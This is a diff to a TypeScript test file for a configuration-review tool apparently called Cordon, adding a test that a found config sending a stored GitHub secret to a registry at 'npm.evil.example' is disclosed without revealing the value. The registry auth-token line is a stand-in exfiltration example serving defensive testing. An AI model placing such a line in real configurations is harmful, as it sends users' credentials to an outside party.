@@ -1,8 +1,10 @@
 /** What the user is shown of a configuration that was found in a folder: whatever in it makes Cordon ask or stop less. */
 import assert from 'node:assert/strict';
+import { join } from 'node:path';
 import { PassThrough } from 'node:stream';
 import { test } from 'node:test';
 import { agreementTo, isInEffect } from '@cordon/config';
+import { keepSecret } from '@cordon/config/keys';
 import { ConfigurationFolder } from '@cordon/testkit/configuration-folder.ts';
 import { drawFile, TerminalAgreement } from '../../src/questions/agreement-question.ts';
 import { Terminal } from '../../src/terminal/terminal.ts';
@@ -99,6 +101,19 @@ test('a module that changes has to be agreed to again, though the file that name
   assert.equal(isTaken(), true);
   folder.write('own/helper.mjs', 'export const all = true;');
   assert.equal(isTaken(), false);
+});
+
+// Attack: a later change of the file hands the secret of another app to a registry of somebody else.
+test('which secret a registry gets is named, and no value', () => {
+  using folder = new ConfigurationFolder();
+  const kept = { ownDataFolder: join(folder.home, '.local/share/cordon'), folder: folder.project };
+  assert.equal(keepSecret(kept, 'github', 'hunter2').ok, true);
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a placeholder as people write it
+  const packages = { '//npm.evil.example/:_authToken': '${secret:github}' };
+  const text = drawnIn(folder, { apps: APPS, packages });
+  assert.match(text, /credentials: the secret `github` goes to \/\/npm\.evil\.example\//);
+  assert.doesNotMatch(text, /hunter2/);
+  assert.doesNotMatch(drawn({ apps: APPS }), /the secret/);
 });
 
 test('registries of a found file, and what of the own network they are, are named', () => {
